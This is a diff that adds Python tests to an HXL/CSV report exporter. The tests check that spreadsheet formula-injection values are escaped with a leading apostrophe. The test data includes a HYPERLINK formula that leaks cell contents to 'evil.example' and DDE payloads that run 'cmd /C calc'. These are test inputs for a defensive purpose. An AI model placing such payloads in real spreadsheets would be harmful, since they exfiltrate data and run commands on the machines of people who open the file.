@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import hxl
@@ -440,3 +441,42 @@ def test_derived_changes_from_the_previous_edition():
 
 def test_no_previous_edition_no_changes():
     assert json.loads(json_of(read_report(SECOND)))["derived"]["changes"] is None
+
+
+FORMULAS = Path(__file__).resolve().parent / "data" / "adversarial" / "formula-cells.yaml"
+
+
+def test_cells_a_spreadsheet_would_run_are_written_after_an_apostrophe_and_read_back_as_written():
+    report = read_report(FORMULAS)
+    text = hxl_of(report)
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[2:] for cell in row]
+    written = {
+        '=HYPERLINK("https://evil.example/?"&A1,"SOHR")',
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "+1+1 killed",
+    }
+    assert {cell for cell in cells if cell.startswith("'")} == {"'" + value for value in written}
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # HXL tools read the same cells, apostrophe included, and the numbers as they are.
+    data = hxl.data(hxl.input.make_input(io.BytesIO(text.encode("utf-8")))).cache()
+    (row,) = list(data)
+    assert row.get("#meta+source") == "'" + '=HYPERLINK("https://evil.example/?"&A1,"SOHR")'
+    assert row.get("#adm1+name") == "'-2+3+cmd|' /C calc'!A0"
+    assert row.get("#indicator+name") == "'+1+1 killed"
+    assert (row.get("#indicator+value+num"), row.get("#affected+killed")) == ("745", "745")
+    assert str(data.max("#affected+killed")) == "745"
+    assert "".join(data.gen_csv()).replace("\r\n", "\n") == text  # and write them back unchanged (in CRLF lines)
+
+
+def test_no_number_in_the_examples_begins_like_a_formula():
+    # Counts, amounts and shares are zero or more: the apostrophe never touches a number.
+    for path in EXAMPLES:
+        rows = list(csv.reader(io.StringIO(hxl_of(read_report(path)))))
+        hashtags = rows[1]
+        for row in rows[2:]:
+            for hashtag, cell in zip(hashtags, row, strict=True):
+                if "+num" in hashtag or hashtag.startswith(("#affected", "#value", "#inneed", "#targeted", "#reached")):
+                    assert cell == "" or re.fullmatch(r"\d+(\.\d+)?", cell), (hashtag, cell)
